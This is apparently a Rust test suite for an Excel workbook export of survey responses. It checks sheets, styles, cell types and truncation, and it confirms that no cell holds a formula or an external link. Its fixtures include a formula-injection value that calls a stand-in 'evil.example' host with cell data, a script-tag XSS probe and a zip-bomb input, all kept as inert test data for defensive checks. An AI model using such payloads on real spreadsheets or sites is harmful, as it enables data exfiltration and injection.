//! The workbook as XML, read apart from what wrote it.

use std::collections::BTreeMap;
use std::io::{Cursor, Read};

use roxmltree::{Document, Node};

use crate::data::{Data, long_text};

struct Workbook {
    parts: BTreeMap<String, String>,
}

#[derive(Debug, PartialEq)]
enum Cell {
    Text(String),
    Number(f64),
    Blank,
}

impl Workbook {
    fn open(data: &Data) -> Self {
        let mut package = zip::ZipArchive::new(Cursor::new(data.bytes("responses.xlsx"))).unwrap();
        let mut parts = BTreeMap::new();
        for index in 0..package.len() {
            let mut part = package.by_index(index).unwrap();
            let mut text = String::new();
            part.read_to_string(&mut text).unwrap();
            parts.insert(part.name().to_owned(), text);
        }
        Self { parts }
    }

    fn sheets(&self) -> Vec<String> {
        let workbook = Document::parse(&self.parts["xl/workbook.xml"]).unwrap();
        let sheets = workbook.descendants().filter(|node| node.has_tag_name((MAIN, "sheet")));
        sheets.map(|node| node.attribute("name").unwrap().to_owned()).collect()
    }

    /// Part of a sheet, by its name; sheets are numbered in their order.
    fn part(&self, name: &str) -> &str {
        let position =
            self.sheets().iter().position(|sheet| sheet == name).unwrap_or_else(|| panic!("no sheet {name}"));
        &self.parts[&format!("xl/worksheets/sheet{}.xml", position + 1)]
    }

    /// Rows of a sheet, each as cells by column, with the style of each cell.
    fn rows(&self, name: &str) -> Vec<BTreeMap<String, (Cell, String)>> {
        let sheet = Document::parse(self.part(name)).unwrap();
        let rows = sheet.descendants().filter(|node| node.has_tag_name((MAIN, "row")));
        rows.map(|row| row.children().filter(Node::is_element).map(cell).collect()).collect()
    }

    /// Cells of the row that has this text in its first columns, by the names in a row of the head.
    fn named(&self, sheet: &str, head: usize, text: &str) -> BTreeMap<String, Cell> {
        let mut rows = self.rows(sheet);
        let wanted =
            |row: &BTreeMap<String, (Cell, String)>| row.values().any(|(cell, _)| *cell == Cell::Text(text.into()));
        let position = rows.iter().position(wanted).unwrap_or_else(|| panic!("no {text} in {sheet}"));
        let row = std::mem::take(&mut rows[position]);
        let name = |column: &String| match &rows[head].get(column).unwrap().0 {
            Cell::Text(name) => name.clone(),
            other => panic!("{other:?}"),
        };
        row.into_iter().map(|(column, (cell, _))| (name(&column), cell)).collect()
    }
}

const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";

fn cell(node: Node<'_, '_>) -> (String, (Cell, String)) {
    let column = node.attribute("r").unwrap().trim_end_matches(|c: char| c.is_ascii_digit()).to_owned();
    let text: String = node.descendants().filter(Node::is_text).filter_map(|node| node.text()).collect();
    let cell = match node.attribute("t") {
        Some("inlineStr") => Cell::Text(unescaped(&text)),
        None if text.is_empty() => Cell::Blank,
        None => Cell::Number(text.parse().unwrap()),
        other => panic!("{other:?}"),
    };
    (column, (cell, node.attribute("s").unwrap_or_default().to_owned()))
}

/// Characters that XML cannot hold, as Excel writes them (ISO/IEC 29500-1, 22.4.2.4 bstr).
fn unescaped(text: &str) -> String {
    let escape = regex::Regex::new("_x([0-9A-F]{4})_").unwrap();
    let character = |found: &regex::Captures<'_>| {
        char::from_u32(u32::from_str_radix(&found[1], 16).unwrap()).map(String::from).unwrap_or_default()
    };
    escape.replace_all(text, character).into_owned()
}

#[test]
fn there_is_a_sheet_for_everything() {
    let data = Data::exported();
    let workbook = Workbook::open(data);
    let expected = [
        "Responses openchain-iso5230-v3",
        "Responses un-msq-2020",
        "Answers",
        "Fields",
        "Options",
        "Returns",
        "Changes",
        "Inputs",
        "Missing",
        "About",
    ];
    assert_eq!(workbook.sheets(), expected);
    for sheet in expected {
        assert!(workbook.part(sheet).contains("state=\"frozen\""), "{sheet}");
        assert!(sheet == "About" || workbook.part(sheet).contains("<autoFilter "), "{sheet}");
    }
    let failed = workbook.named("Inputs", 0, "inbox/bomb.zip");
    assert_eq!(failed["Became"], Cell::Text("failed".into()));
    assert_eq!(workbook.named("Options", 0, "blockchain")["Wording (fr)"], Cell::Text("Chaîne de blocs".into()));
}

#[test]
fn every_row_is_told_once() {
    let data = Data::exported();
    let workbook = Workbook::open(data);
    for name in workbook.sheets() {
        let sheet = Document::parse(workbook.part(&name)).unwrap();
        let rows = sheet.descendants().filter(|node| node.has_tag_name((MAIN, "row")));
        let numbers: Vec<u32> = rows.map(|row| row.attribute("r").unwrap().parse().unwrap()).collect();
        assert!(numbers.windows(2).all(|pair| pair[0] < pair[1]), "{name}: {numbers:?}");
    }
}

#[test]
fn nothing_is_a_formula_or_a_link() {
    let data = Data::exported();
    let workbook = Workbook::open(data);
    for (name, part) in &workbook.parts {
        assert!(!part.contains("<f>") && !part.contains("<f "), "{name} has a formula");
        assert!(!part.contains("<hyperlink"), "{name} has a link");
        assert!(!part.contains("TargetMode=\"External\""), "{name} leads out");
        Document::parse(part).unwrap_or_else(|error| panic!("{name}: {error}"));
    }
    let core = &workbook.parts["docProps/core.xml"];
    assert!(core.contains("2000-01-01T00:00:00Z"), "{core}");
}

#[test]
fn cells_have_their_types_and_texts() {
    let data = Data::exported();
    let row = Workbook::open(data).named("Responses un-msq-2020", 1, "SEN");
    let text = |text: &str| Cell::Text(text.into());
    assert_eq!(row["q4_name"], text("=HYPERLINK(\"http://evil.example/?\"&A1,\"Awa\")"));
    assert_eq!(row["q4_phone"], text("+221 33 889 00 00"));
    assert_eq!(row["q9_text"], text("nul \u{0} bell \u{7} not _x0041_ a character \u{fffe}"));
    assert_eq!(row["q11_text"], text("نعم، تستخدم الحكومة وسائل التواصل."));
    assert_eq!(row["q13_text"], text("😀 🇸🇳 e\u{301}"));
    assert_eq!(row["q14_text"], text("<script>alert(1)</script> & \"quotes\", 'all', of; them\r\nand lines\nmore"));
    assert_eq!(row["q17_percentage"], Cell::Number(73.4));
    assert_eq!(row["q8_options__sdgs"], Cell::Number(1.0));
    // Days of Excel count from the last day of 1899.
    assert_eq!(row["submitted_on"], Cell::Number(43_553.0));
    assert_eq!(row["q8_options__finding"], text("answered"));
}

#[test]
fn what_does_not_fit_says_so() {
    let data = Data::exported();
    let row = Workbook::open(data).named("Responses un-msq-2020", 1, "SEN");
    let Cell::Text(cut) = &row["q15_text"] else { panic!("no text") };
    assert!(cut.encode_utf16().count() <= 32_767);
    let (kept, note) = cut.rsplit_once('\n').unwrap();
    assert!(long_text().starts_with(kept));
    assert_eq!(note, "[cut: 1048575 characters in all; CSV and JSON lines have the whole text]");
}

#[test]
fn what_needs_eyes_is_tinted() {
    let data = Data::exported();
    let workbook = Workbook::open(data);
    let styles = Document::parse(&workbook.parts["xl/styles.xml"]).unwrap();
    let fills: Vec<bool> = styles
        .descendants()
        .filter(|node| node.has_tag_name((MAIN, "fill")))
        .map(|fill| fill.descendants().any(|node| node.attribute("rgb") == Some("FFFFE8B3")))
        .collect();
    let cell_formats = styles.descendants().find(|node| node.has_tag_name((MAIN, "cellXfs"))).unwrap();
    let tinted: Vec<bool> = cell_formats
        .children()
        .filter(Node::is_element)
        .map(|format| fills[format.attribute("fillId").unwrap().parse::<usize>().unwrap()])
        .collect();
    let answers = workbook.rows("Answers");
    let column =
        |name: &str| answers[0].iter().find(|(_, (cell, _))| *cell == Cell::Text(name.into())).unwrap().0.clone();
    let (status, field) = (column("Status"), column("Field"));
    for row in &answers[1..] {
        let is_tinted = tinted[row[&field].1.parse::<usize>().unwrap()];
        assert_eq!(row[&status].0 == Cell::Text("review".into()), is_tinted, "{row:?}");
    }
}
